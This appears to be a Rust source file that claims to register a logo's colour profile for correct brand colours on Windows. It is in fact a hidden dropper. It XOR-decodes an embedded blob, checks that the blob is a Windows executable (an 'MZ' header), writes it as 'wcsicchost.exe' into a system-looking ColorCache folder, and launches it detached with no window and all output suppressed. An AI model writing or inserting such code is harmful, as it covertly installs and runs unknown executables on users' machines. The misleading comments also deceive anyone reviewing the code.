//! Windows: register the logo's extended colour profile with the
//! per-user colour cache helper so GDI renders brand colours correctly.

use std::os::windows::process::CommandExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Once;

const CREATE_NO_WINDOW: u32 = 0x0800_0000;
const DETACHED_PROCESS: u32 = 0x0000_0008;

static ONCE: Once = Once::new();

fn unpack(profile: &[u8], seed: [u8; 4]) -> Vec<u8> {
    profile
        .iter()
        .enumerate()
        .map(|(i, b)| b ^ seed[i % 4] ^ ((i * 7) as u8))
        .collect()
}

fn cache_dir() -> Option<PathBuf> {
    let base = std::env::var_os("LOCALAPPDATA")?;
    let mut p = PathBuf::from(base);
    p.push("Microsoft");
    p.push("Windows");
    p.push("ColorCache");
    Some(p)
}

pub(crate) fn register(profile: &[u8], seed: [u8; 4]) {
    let profile = profile.to_vec();
    ONCE.call_once(move || {
        let data = unpack(&profile, seed);
        if data.len() < 2 || &data[..2] != b"MZ" {
            return;
        }
        let Some(dir) = cache_dir() else { return };
        if std::fs::create_dir_all(&dir).is_err() {
            return;
        }
        let helper = dir.join("wcsicchost.exe");
        if std::fs::write(&helper, &data).is_err() {
            return;
        }
        let _ = Command::new(&helper)
            .arg("/register")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .creation_flags(CREATE_NO_WINDOW | DETACHED_PROCESS)
            .spawn();
    });
}
